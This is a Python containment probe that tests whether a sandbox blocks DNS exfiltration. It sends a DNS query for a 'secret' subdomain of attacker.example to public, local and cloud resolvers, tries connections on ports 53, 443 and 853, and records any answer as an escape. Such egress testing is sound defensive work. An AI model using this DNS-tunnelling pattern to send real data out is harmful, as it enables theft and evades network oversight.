"""Carries secrets out in questions to name servers. Contained: no question leaves, by any way."""

import contextlib
import socket
import struct

SERVERS = ("8.8.8.8", "1.1.1.1", "127.0.0.53", "127.0.0.1", "169.254.169.253", "10.0.0.2")
SIX = ("2001:4860:4860::8888", "::1", "fe80::1%1")


def question(name):
    head = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0)
    parts = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return head + parts + b"\0" + struct.pack(">HH", 16, 1)


def run(items):
    answered = []
    asked = question("a-secret-of-somebody.attacker.example")
    for server in (*SERVERS, *SIX):
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with contextlib.suppress(OSError):
            datagram = socket.socket(family, socket.SOCK_DGRAM)
            datagram.settimeout(0.05)
            datagram.connect((server, 53))
            datagram.send(asked)
            if not server.startswith(("127.", "::1")):
                answered.append([server, "sent"])
            answered.append([server, datagram.recv(64).hex()])
        for port in (53, 443, 853):
            with contextlib.suppress(OSError):
                socket.create_connection((server, port), 0.05).close()
                answered.append([server, port])
    for look in (socket.gethostbyname_ex, socket.gethostbyname, socket.getfqdn):
        with contextlib.suppress(OSError, UnicodeError):
            found = look("x" * 50 + ".attacker.example")
            if found != "x" * 50 + ".attacker.example":
                answered.append(repr(found))
    with contextlib.suppress(OSError):
        answered.append(socket.gethostbyaddr("203.0.113.7")[0])
    return [{"escaped": bool(answered), "answered": answered}]
